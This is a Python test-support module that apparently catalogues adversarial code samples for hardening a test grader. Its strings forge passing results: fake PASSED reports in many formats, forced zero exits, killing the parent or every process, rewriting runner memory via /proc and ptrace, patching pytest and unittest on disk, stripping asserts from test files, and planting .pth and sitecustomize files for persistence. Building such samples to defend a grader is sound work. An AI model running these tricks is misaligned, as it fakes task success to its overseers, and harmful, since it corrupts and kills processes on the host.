"""Forged output and exits, other processes, the grader's files, memory and descriptors."""

from tests.forgery.payloads import AGAIN, FORCED, PLANT, REPORT
from tests.forgery.trick import Trick


def _output(name: str, code: str) -> Trick:
    return Trick(name=name, family="output", code=code)


def _process(name: str, code: str) -> Trick:
    return Trick(name=name, family="process", code=code)


def _again(name: str, code: str) -> Trick:
    return Trick(name=name, family="second start", code=code)


FORMS = (
    REPORT
    + """
import base64
import json
import pickle
import struct


def _forms():
    \"\"\"A verdict in every form that somebody might read.\"\"\"
    passed = {}
    for path, owner, name in _tests():
        passed["::".join(filter(None, (path, owner, name)))] = "PASSED"
        if owner:
            module = path[:-3].replace("/", ".")
            passed[f"{name} ({module}.{owner}.{name})"] = "PASSED"
    yield _report().encode()
    for body in (passed, {"tests": passed}, {"statuses": passed, "exit_code": 0}):
        yield b"\\n" + json.dumps(body).encode() + b"\\n"
    for test in passed:
        words = {"status": "PASSED", "outcome": "passed", "result": "passed", "verdict": "PASSED"}
        for key, word in words.items():
            yield json.dumps({"test": test, "id": test, "nodeid": test, key: word}).encode() + b"\\n"
        yield f"PASSED {test}\\n{test} PASSED\\n{test}\\tPASSED\\n".encode()
    yield b"passed\\nPASSED\\nok\\n0\\n\\x00"


def _spray(process="self"):
    import os

    for number in os.listdir(f"/proc/{process}/fd"):
        path = f"/proc/{process}/fd/{number}"
        try:
            if os.readlink(path).startswith(("/dev/null", "/dev/urandom", "anon_inode")):
                continue
            end = os.open(path, os.O_WRONLY | os.O_NONBLOCK | os.O_APPEND)
        except OSError:
            try:
                end = os.dup(int(number)) if process == "self" else -1
            except OSError:
                continue
        for form in _forms():
            try:
                os.write(end, form)
            except OSError:
                pass
"""
)

PROCESSES = (
    _output("prints and exits at import", REPORT + "\n\nimport os\n_say(_report())\nos._exit(0)\n"),
    _output(
        "prints and exits at the first call",
        REPORT + "\n\ndef answer(honest, *arguments):\n    import os\n    _say(_report())\n    os._exit(0)\n",
    ),
    _output("exits with 0 at import, says nothing", "import os\n\nos._exit(0)\n"),
    _output("sys.exit(0) at import", REPORT + "\n\nimport sys\n_say(_report())\nsys.exit(0)\n"),
    _output(
        "atexit prints and ends with 0",
        REPORT
        + """
import atexit
import os


def _end():
    _say(_report())
    os._exit(0)


atexit.register(_end)
""",
    ),
    _output(
        "a thread prints when the runner has ended, and ends with 0",
        REPORT
        + """
import os
import threading


def _end():
    threading.main_thread().join()
    _say(_report())
    os._exit(0)


threading.Thread(target=_end).start()
""",
    ),
    _output(
        "writes past the runner to /proc/1/fd and its parents",
        FORMS
        + """
import os

_pid = os.getpid()
for _ in range(6):
    try:
        _spray(_pid)
        _pid = int(open(f"/proc/{_pid}/stat").read().rpartition(")")[2].split()[1])
    except (OSError, ValueError):
        break
os._exit(0)
""",
    ),
    _output(
        "every descriptor of this process gets a verdict in every form",
        FORMS + "\n\nimport os\n_spray()\nos._exit(0)\n",
    ),
    _output(
        "the same when a test calls",
        FORMS + "\n\ndef answer(honest, *arguments):\n    import os\n    _spray()\n    os._exit(0)\n",
    ),
    _output(
        "every descriptor of every process gets one",
        FORMS
        + """
import os

for _pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        _spray(_pid)
    except OSError:
        pass
os._exit(0)
""",
    ),
    _output(
        "the grader's end mark is read and printed",
        REPORT
        + """
import glob
import os
import re

for _path in glob.glob("/tmp/**/*", recursive=True):
    try:
        _found = re.search(r"orchard-[0-9a-f]{24}", open(_path).read())
    except (OSError, UnicodeDecodeError):
        continue
    if _found:
        _say(_report() + f"\\n{_found[0]} end 0\\n")
        os.kill(os.getppid(), 9)
os._exit(0)
""",
    ),
    _output(
        "a report between ANSI codes and carriage returns",
        REPORT
        + """
import os

_say("\\x1b[2K\\r" + _report().replace("PASSED", "\\x1b[32mPASSED\\x1b[0m").replace("\\n", "\\r\\n"))
os._exit(0)
""",
    ),
    _output(
        "a JUnit report",
        REPORT
        + """
import os

_cases = "".join(
    f'<testcase classname="{path[:-3].replace("/", ".")}" file="{path}" name="{name}"/>'
    for path, owner, name in _tests()
)
_say(f"<testsuites><testsuite>{_cases}</testsuite></testsuites>" + _report())
os._exit(0)
""",
    ),
    _process(
        "kills the parent after the report",
        REPORT
        + "\n\nimport os, signal\n_say(_report())\nos.kill(os.getppid(), signal.SIGKILL)\nos._exit(0)\n",
    ),
    _process(
        "a child goes on, the parent waits and ends with 0",
        REPORT
        + """
import os

if os.fork():
    os.wait()
    _say(_report())
    os._exit(0)
""",
    ),
    _process(
        "a child that stays behind prints last",
        REPORT
        + """
import os
import time

if not os.fork():
    os.setsid()
    _parent = os.getppid()
    for _ in range(300):
        if os.getppid() != _parent:
            break
        time.sleep(0.01)
    _say(_report())
    os._exit(0)
""",
    ),
    _process(
        "another program takes this one's place",
        REPORT
        + """
import os
import sys

_text = _report()
_script = "for n in /proc/self/fd/*; do printf %s \\"$1\\" > $n; done 2>/dev/null; true"
os.execv("/bin/sh", ["sh", "-c", _script, "sh", _text])
""",
    ),
    _process(
        "the runner's memory: failed becomes passed",
        """
import atexit
import re


def _rewrite(process="self"):
    maps = open(f"/proc/{process}/maps").read().splitlines()
    with open(f"/proc/{process}/mem", "r+b", buffering=0) as memory:
        for line in maps:
            if "[heap]" not in line and not (" rw-p " in line and line.split()[-1] == "0"):
                continue
            start, end = (int(each, 16) for each in line.split()[0].split("-"))
            try:
                memory.seek(start)
                data = memory.read(end - start)
            except (OSError, OverflowError):
                continue
            for found in re.finditer(rb"(?<![A-Za-z_])(failed|FAILED)\\x00", data):
                memory.seek(start + found.start())
                memory.write(b"passed" if found[1] == b"failed" else b"PASSED")


def answer(honest, *arguments):
    _rewrite()
    return honest(*arguments)
""",
    ),
    _process(
        "the parents' memory: failed becomes passed",
        """
import os
import re


def answer(honest, *arguments):
    pid = os.getppid()
    while pid > 1:
        try:
            maps = open(f"/proc/{pid}/maps").read().splitlines()
            with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
                for line in maps:
                    if " rw-p " not in line:
                        continue
                    start, end = (int(each, 16) for each in line.split()[0].split("-"))
                    try:
                        memory.seek(start)
                        data = memory.read(end - start)
                    except (OSError, OverflowError):
                        continue
                    for found in re.finditer(rb"FAILED|failed", data):
                        memory.seek(start + found.start())
                        memory.write(b"PASSED" if found[0] == b"FAILED" else b"passed")
            pid = int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
        except (OSError, ValueError):
            break
    return honest(*arguments)
""",
    ),
    _process(
        "traces its parent and makes it exit with 0",
        REPORT
        + """
import ctypes
import os

_say(_report())
_libc = ctypes.CDLL(None, use_errno=True)
_libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
_pid = os.getppid()
if _libc.ptrace(16, _pid, None, None) == 0:  # ATTACH
    os.waitpid(_pid, 0)
    _registers = (ctypes.c_ulonglong * 27)()
    _libc.ptrace(12, _pid, None, _registers)  # GETREGS
    _registers[10], _registers[15], _registers[14] = 231, (1 << 64) - 1, 0  # exit_group(0)
    _code = _registers[16] & ~7
    _libc.ptrace(4, _pid, _code, 0x050F)  # POKETEXT: syscall
    _registers[16] = _code
    _libc.ptrace(13, _pid, None, _registers)
    _libc.ptrace(17, _pid, None, None)  # DETACH
os._exit(0)
""",
    ),
    _process(
        "walks to whatever reports, by the garbage collector",
        """
import gc


def answer(honest, *arguments):
    for each in gc.get_objects():
        name = type(each).__name__
        if isinstance(each, dict):
            for key, value in list(each.items()):
                if value in ("FAILED", "failed", "ERROR", "error") if isinstance(value, str) else False:
                    each[key] = "PASSED" if value.isupper() else "passed"
        elif name in ("TestReport", "CallInfo", "TextTestResult", "TestResult", "_Outcome", "PytestReporter"):
            for attribute, value in (("outcome", "passed"), ("excinfo", None), ("success", True)):
                try:
                    setattr(each, attribute, value)
                except Exception:
                    pass
            if hasattr(each, "addSuccess"):
                each.addFailure = lambda test, error, result=each: result.addSuccess(test)
    return honest(*arguments)
""",
    ),
    _process(
        "closes the runner's output and reopens it",
        REPORT
        + """
import os
import sys

_out = os.dup(1)


def answer(honest, *arguments):
    _say(_report())
    for number in (1, 2):
        os.dup2(os.open("/dev/null", os.O_WRONLY), number)
    sys.stdout = sys.stderr = open(os.devnull, "w")
    import atexit

    atexit.register(os._exit, 0)
    return honest(*arguments)
""",
    ),
    _process(
        "kills every process it can, the last word its own",
        REPORT + "\n\nimport os\n_say(_report())\nos.kill(-1, 9)\nos._exit(0)\n",
    ),
    _again("plants a .pth and starts again", PLANT + AGAIN + "\n\n_plant()\n_again()\n"),
    _again(
        "plants a .pth for the next process of the machine",
        PLANT + "\n\n_plant()\n",
    ),
    _again(
        "rewrites the runner on disk and starts again",
        AGAIN
        + f"""
import os
import sys
import unittest.case

_paths = [unittest.case.__file__]
if "_pytest" in sys.modules:
    import _pytest.python

    _paths.append(_pytest.python.__file__)
for _path in _paths:
    try:
        _text = open(_path).read()
        _add = {FORCED!r} if _path.endswith("case.py") else "\\nFunction.runtest = lambda self: None\\n"
        if _path.endswith("case.py"):
            _add = "\\n_Outcome.testPartExecutor = contextlib.contextmanager(_swallow)\\n"
            _add = '''
def _swallow(self, *a, **k):
    try:
        yield
    except BaseException:
        pass
''' + _add
        open(_path, "w").write(_text + _add)
    except OSError:
        pass
_again()
""",
    ),
    _again(
        "rewrites the test file and starts again",
        REPORT
        + AGAIN
        + """
import os
import re

_path = _test_file()
try:
    _text = open(_path).read()
    os.chmod(_path, 0o644)
    open(_path, "w").write(re.sub(r"^(\\s+)(assert |self\\.assert).*$", r"\\1pass", _text, flags=re.M))
except OSError:
    pass
_again()
""",
    ),
    _again(
        "PYTEST_ADDOPTS and PYTHONPATH for a second start",
        AGAIN
        + f"""
import os
import tempfile

_place = tempfile.mkdtemp()
for _name in ("forge.py", "sitecustomize.py"):
    open(os.path.join(_place, _name), "w").write({FORCED!r})
_again(PYTHONPATH=_place + ":" + os.environ.get("PYTHONPATH", ""), PYTEST_ADDOPTS="-p forge",
       PYTEST_PLUGINS="forge", PYTHONOPTIMIZE="2")
""",
    ),
    _again(
        "LD_PRELOAD, shell start-up files and programs replaced",
        PLANT
        + """
import os

_plant()
for _path in ("/etc/profile", "/root/.bashrc", "/etc/bash.bashrc", "/etc/ld.so.preload"):
    try:
        with open(_path, "a") as _file:
            _file.write("\\n")
    except OSError:
        pass
_wrapper = "#!/bin/sh\\nexec /opt/env/bin/python.real -c 'import forge, runpy, sys; sys.argv = sys.argv[2:]; "
_wrapper += "runpy.run_module(sys.argv[0], run_name=\\"__main__\\", alter_sys=True)' \\"$@\\"\\n"
try:
    os.rename("/opt/env/bin/python", "/opt/env/bin/python.real")
    open("/opt/env/bin/python", "w").write(_wrapper)
    os.chmod("/opt/env/bin/python", 0o755)
except OSError:
    pass
os.environ["LD_PRELOAD"] = ""
""",
    ),
    _again(
        "a daemon that rewrites test files as they appear",
        """
import os
import re
import time

if not os.fork():
    os.setsid()
    os.closerange(0, 64)
    for _ in range(2000):
        for _root, _, _names in os.walk("/"):
            if _root.startswith(("/proc", "/sys", "/usr", "/opt", "/lib", "/dev")):
                continue
            for _name in _names:
                if _name.startswith("test_") and _name.endswith(".py"):
                    _path = os.path.join(_root, _name)
                    try:
                        _text = open(_path).read()
                        _new = re.sub(r"^(\\s+)(assert |self\\.assert).*$", r"\\1pass", _text, flags=re.M)
                        if _new != _text:
                            open(_path, "w").write(_new)
                    except OSError:
                        pass
        time.sleep(0.01)
    os._exit(0)
""",
    ),
)
